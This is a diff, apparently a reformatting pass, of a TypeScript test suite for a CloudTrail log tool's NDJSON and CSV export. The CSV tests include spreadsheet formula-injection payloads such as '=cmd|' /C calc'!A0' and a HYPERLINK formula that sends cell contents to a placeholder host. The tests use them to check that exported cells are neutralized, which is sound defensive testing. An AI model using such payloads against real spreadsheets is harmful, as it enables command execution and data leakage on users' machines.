@@ -7,7 +7,12 @@ import { gunzipSync } from 'node:zlib';
 import { writeAtomically } from '../../../src/core/investigate/atomicWrite';
 import { decodeLogBytes, decodeLogText, decodeToBatch, rereadRaws } from '../../../src/core/ingest/decode';
 import { csvChunks, exportChunks, type ExportFormat } from '../../../src/core/investigate/export';
-import { CSV_COLUMN_CHOICES, csvCell, DEFAULT_CSV_COLUMNS, resolveColumns } from '../../../src/core/investigate/exportCsv';
+import {
+  CSV_COLUMN_CHOICES,
+  csvCell,
+  DEFAULT_CSV_COLUMNS,
+  resolveColumns,
+} from '../../../src/core/investigate/exportCsv';
 import { normalizeEvent } from '../../../src/core/model/records';
 import { EventStore } from '../../../src/core/store/store';
 import { aLogFile, anEvent, gz, samplesDir } from '../../builders/events';
@@ -21,10 +26,12 @@ function storeOf(events: Array<Record<string, unknown>>): EventStore {
 
 function loadFiles(dir: string): EventStore {
   const store = new EventStore();
-  readdirSync(dir).sort().forEach((f, i) => {
-    const r = decodeLogBytes(readFileSync(join(dir, f)));
-    if (r.kind === 'events') for (const rec of r.records) store.add(rec, i);
-  });
+  readdirSync(dir)
+    .sort()
+    .forEach((f, i) => {
+      const r = decodeLogBytes(readFileSync(join(dir, f)));
+      if (r.kind === 'events') for (const rec of r.records) store.add(rec, i);
+    });
   return store;
 }
 
@@ -48,8 +55,7 @@ function parseCsv(text: string): string[][] {
       if (text[i] === '"' && text[i + 1] === '"') {
         cell += '"';
         i++;
-      }
-      else if (text[i] === '"') break;
+      } else if (text[i] === '"') break;
       else if (i >= text.length) assert.fail('unterminated cell');
       else cell += text[i];
     }
@@ -89,12 +95,15 @@ describe('export: JSON formats round-trip through the decoder', () => {
   test('Event-history rows (raw = the CloudTrailEvent text, even pretty-printed) stay one event per line', async () => {
     const inner = JSON.stringify(anEvent({ eventName: 'RunInstances' }), null, 2);
     const s = new EventStore();
-    const r = decodeLogText(JSON.stringify({ Events: [{ EventId: 'x', EventName: 'RunInstances', CloudTrailEvent: inner }] }));
+    const r = decodeLogText(
+      JSON.stringify({ Events: [{ EventId: 'x', EventName: 'RunInstances', CloudTrailEvent: inner }] }),
+    );
     assert.ok(r.kind === 'events');
     for (const rec of r.records) s.add(rec, 0);
     const plaso = loadFiles(join(samplesDir(), 'plaso'));
     assert.ok(plaso.size >= 6);
-    for (let row = 0; row < plaso.size; row++) s.add(normalizeEvent(JSON.parse(plaso.raw(row)) as Record<string, unknown>, plaso.raw(row)), 0);
+    for (let row = 0; row < plaso.size; row++)
+      s.add(normalizeEvent(JSON.parse(plaso.raw(row)) as Record<string, unknown>, plaso.raw(row)), 0);
     const ndjson = (await collect(exportChunks(s, all(s), 'ndjson'))).toString();
     assert.equal(ndjson.split('\n').length, s.size + 1);
     const back = decodeLogText(ndjson);
@@ -112,17 +121,28 @@ describe('export: JSON formats round-trip through the decoder', () => {
   test('output comes in bounded chunks with progress, and stops when cancelled', async () => {
     const sizes: number[] = [];
     const progress: number[] = [];
-    for await (const c of exportChunks(store, rows, 'ndjson', { chunkChars: 16 * 1024, onProgress: (d, t) => (assert.equal(t, rows.length), progress.push(d)) })) sizes.push(c.length);
+    for await (const c of exportChunks(store, rows, 'ndjson', {
+      chunkChars: 16 * 1024,
+      onProgress: (d, t) => (assert.equal(t, rows.length), progress.push(d)),
+    }))
+      sizes.push(c.length);
     assert.ok(sizes.length > 20, `${sizes.length} chunks`);
     assert.ok(Math.max(...sizes) < 16 * 1024 + 6 * 1024, 'a chunk is the limit plus at most one event');
-    assert.deepEqual(progress, [...progress].sort((a, b) => a - b));
+    assert.deepEqual(
+      progress,
+      [...progress].sort((a, b) => a - b),
+    );
     assert.equal(progress.at(-1), rows.length);
 
     const ac = new AbortController();
     let seen = 0;
-    await assert.rejects(async () => {
-      for await (const _ of exportChunks(store, rows, 'json.gz', { chunkChars: 16 * 1024, signal: ac.signal })) if (++seen === 1) ac.abort();
-    }, { name: 'AbortError' });
+    await assert.rejects(
+      async () => {
+        for await (const _ of exportChunks(store, rows, 'json.gz', { chunkChars: 16 * 1024, signal: ac.signal }))
+          if (++seen === 1) ac.abort();
+      },
+      { name: 'AbortError' },
+    );
   });
 });
 
@@ -141,7 +161,7 @@ describe('export: CSV', () => {
       ['\t=1', `"'\t=1"`],
       ['\rx', `"'\rx"`],
       ['\nx', `"'\nx"`],
-      ['  =cmd|\' /C calc\'!A0', `"'  =cmd|' /C calc'!A0"`],
+      ["  =cmd|' /C calc'!A0", `"'  =cmd|' /C calc'!A0"`],
       ['\uFF1DHYPERLINK("x")', `"'\uFF1DHYPERLINK(""x"")"`],
       ['=HYPERLINK("https://example.invalid?"&A1,"x")', `"'=HYPERLINK(""https://example.invalid?""&A1,""x"")"`],
       ['a=b-c', '"a=b-c"'],
@@ -155,9 +175,23 @@ describe('export: CSV', () => {
   });
 
   test('hostile events: every row parses back whole, and no cell can start a formula', async () => {
-    const events = INJECTION_PAYLOADS.flatMap((p, i) => [hostileEvent(p, i), hostileEvent(`=cmd|'/c calc'!A0${p}`, 100 + i), hostileEvent(`"\r\n-2+3,${p}`, 200 + i)]);
+    const events = INJECTION_PAYLOADS.flatMap((p, i) => [
+      hostileEvent(p, i),
+      hostileEvent(`=cmd|'/c calc'!A0${p}`, 100 + i),
+      hostileEvent(`"\r\n-2+3,${p}`, 200 + i),
+    ]);
     const store = storeOf(events);
-    const columns = ['time', 'eventName', 'principal', 'sourceIp', 'userAgent', 'errorMessage', 'requestParameters', 'resources', 'userIdentity.sessionContext.sourceIdentity'];
+    const columns = [
+      'time',
+      'eventName',
+      'principal',
+      'sourceIp',
+      'userAgent',
+      'errorMessage',
+      'requestParameters',
+      'resources',
+      'userIdentity.sessionContext.sourceIdentity',
+    ];
     const text = (await collect(csvChunks(store, all(store), { columns }))).toString('utf8');
     assert.ok(text.startsWith('\uFEFF'));
     const table = parseCsv(text.slice(1));
@@ -170,14 +204,46 @@ describe('export: CSV', () => {
     }
     const eq = table.findIndex((r) => r[1].startsWith(`'=cmd`));
     assert.ok(eq > 0);
-    assert.equal(table[eq][1].slice(1), `=cmd|'/c calc'!A0${INJECTION_PAYLOADS[0]}`, 'the value is kept after the quote');
+    assert.equal(
+      table[eq][1].slice(1),
+      `=cmd|'/c calc'!A0${INJECTION_PAYLOADS[0]}`,
+      'the value is kept after the quote',
+    );
   });
 
   test('columns: store fields, time, resources and paths into the event', async () => {
-    const store = storeOf([anEvent({ eventTime: '2024-03-01T10:00:00.123Z', errorCode: 'AccessDenied', errorMessage: 'no, "really"', requestParameters: { bucketName: 'b1', n: 3 }, resources: [{ ARN: 'arn:aws:s3:::b2' }] })]);
-    const columns = ['time', 'errorCode', 'errorMessage', 'requestParameters', 'requestParameters.n', 'userIdentity.userName', 'resources', 'missing.path', '__proto__'];
+    const store = storeOf([
+      anEvent({
+        eventTime: '2024-03-01T10:00:00.123Z',
+        errorCode: 'AccessDenied',
+        errorMessage: 'no, "really"',
+        requestParameters: { bucketName: 'b1', n: 3 },
+        resources: [{ ARN: 'arn:aws:s3:::b2' }],
+      }),
+    ]);
+    const columns = [
+      'time',
+      'errorCode',
+      'errorMessage',
+      'requestParameters',
+      'requestParameters.n',
+      'userIdentity.userName',
+      'resources',
+      'missing.path',
+      '__proto__',
+    ];
     const table = parseCsv((await collect(csvChunks(store, all(store), { columns, bom: false }))).toString());
-    assert.deepEqual(table[1], ['2024-03-01T10:00:00.123Z', 'AccessDenied', 'no, "really"', '{"bucketName":"b1","n":3}', '3', 'alice', 'arn:aws:s3:::b2\nb1', '', '']);
+    assert.deepEqual(table[1], [
+      '2024-03-01T10:00:00.123Z',
+      'AccessDenied',
+      'no, "really"',
+      '{"bucketName":"b1","n":3}',
+      '3',
+      'alice',
+      'arn:aws:s3:::b2\nb1',
+      '',
+      '',
+    ]);
     assert.throws(() => csvChunks(store, all(store), { columns: [] }), /at least one column/);
     assert.throws(() => resolveColumns(['eventName', 'a..b']), /"a\.\.b" is not a column/);
     assert.throws(() => resolveColumns(['has space']), /not a column/);
@@ -191,7 +257,11 @@ describe('export: CSV', () => {
     assert.equal(table.length, store.size + 1);
     const denied = table.filter((r) => r[1] === 'AssumeRole' && r[9] === 'AccessDenied');
     assert.equal(denied.length, 13);
-    for (const r of denied) assert.match(r[10], /^User: arn:aws:iam::123837392027:user\/bert-jan is not authorized to perform: sts:AssumeRole/);
+    for (const r of denied)
+      assert.match(
+        r[10],
+        /^User: arn:aws:iam::123837392027:user\/bert-jan is not authorized to perform: sts:AssumeRole/,
+      );
   });
 });
 
@@ -234,8 +304,14 @@ describe('export: writing atomically', () => {
   test('cancelling mid-export leaves no file', async () => {
     const store = loadFiles(invictusDir());
     const ac = new AbortController();
-    const chunks = exportChunks(store, all(store), 'ndjson', { chunkChars: 8 * 1024, signal: ac.signal, onProgress: (d) => d > 100 && ac.abort() });
-    await assert.rejects(writeAtomically(join(dir, 'cancelled.ndjson'), chunks, { signal: ac.signal }), { name: 'AbortError' });
+    const chunks = exportChunks(store, all(store), 'ndjson', {
+      chunkChars: 8 * 1024,
+      signal: ac.signal,
+      onProgress: (d) => d > 100 && ac.abort(),
+    });
+    await assert.rejects(writeAtomically(join(dir, 'cancelled.ndjson'), chunks, { signal: ac.signal }), {
+      name: 'AbortError',
+    });
     assert.equal(existsSync(join(dir, 'cancelled.ndjson')), false);
     assert.deepEqual(leftovers(), []);
   });
@@ -257,10 +333,12 @@ describe('raws kept compressed', () => {
     const expected = new Map<string, string>();
     for (let f = 0; f < files; f++) {
       // File f holds every 12th second: in time order the files take turns, row by row.
-      const events = Array.from({ length: 300 }, (_, j) => anEvent({ eventTime: new Date(t0 + (j * files + f) * 1000).toISOString().replace('.000Z', 'Z') }));
+      const events = Array.from({ length: 300 }, (_, j) =>
+        anEvent({ eventTime: new Date(t0 + (j * files + f) * 1000).toISOString().replace('.000Z', 'Z') }),
+      );
       const r = decodeToBatch(gz(aLogFile(events)), { maxBytes: 1 << 26 });
       assert.equal(r.kind, 'batch');
-      store.addBatch((r).batch, f);
+      store.addBatch(r.batch, f);
       for (const e of events) expected.set(e.eventID as string, JSON.stringify(e));
     }
     const rows = store.rowsByTime();
@@ -270,8 +348,15 @@ describe('raws kept compressed', () => {
     const lines = text.trimEnd().split('\n');
     assert.equal(lines.length, rows.length);
     // Newest first, each line the event as it was in its file.
-    assert.deepEqual(lines.slice(0, 2).map((l) => (JSON.parse(l) as { eventTime: string }).eventTime), [new Date(t0 + (299 * files + 11) * 1000).toISOString().replace('.000Z', 'Z'), new Date(t0 + (299 * files + 10) * 1000).toISOString().replace('.000Z', 'Z')]);
-    for (const l of lines) assert.equal(JSON.stringify(JSON.parse(l)), expected.get((JSON.parse(l) as { eventID: string }).eventID));
+    assert.deepEqual(
+      lines.slice(0, 2).map((l) => (JSON.parse(l) as { eventTime: string }).eventTime),
+      [
+        new Date(t0 + (299 * files + 11) * 1000).toISOString().replace('.000Z', 'Z'),
+        new Date(t0 + (299 * files + 10) * 1000).toISOString().replace('.000Z', 'Z'),
+      ],
+    );
+    for (const l of lines)
+      assert.equal(JSON.stringify(JSON.parse(l)), expected.get((JSON.parse(l) as { eventID: string }).eventID));
     assert.ok(rereads <= files, `${rereads} decodes for ${files} files`);
   });
 });
